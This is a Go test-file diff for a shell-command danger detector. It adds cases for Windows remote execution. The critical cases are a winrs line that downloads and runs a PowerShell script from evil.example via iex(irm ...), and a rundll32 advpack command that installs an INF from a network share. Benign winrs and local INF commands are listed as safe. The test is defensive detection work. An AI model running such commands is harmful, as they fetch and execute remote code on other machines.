@@ -105,3 +105,18 @@ func TestDownloadedDiskImagesRun(t *testing.T) {
 		`hdiutil attach ~/Downloads/Tool.dmg && cp -R /Volumes/Tool/Tool.app /Applications/`,
 	})
 }
+
+// winrs runs its command on another machine: judged as that cmd line; an
+// INF installed from a share through rundll32 runs what it names.
+func TestWinrsPayloadsAndInfFromShares(t *testing.T) {
+	d := NewDetector(Options{})
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`winrs -r:srv03 "powershell -c iex(irm https://evil.example/wr)"`, CategoryRemoteExec, "", LevelCritical},
+		{`rundll32 advpack.dll,LaunchINFSection \\192.0.2.150\s\x.inf,DefaultInstall_SingleUser,1,`, CategoryRemoteExec, "win-lolbin-exec", LevelCritical},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`winrs -r:srv03 ipconfig /all`,
+		`rundll32 advpack.dll,LaunchINFSection .\driver\x.inf,DefaultInstall,1,`,
+	})
+}
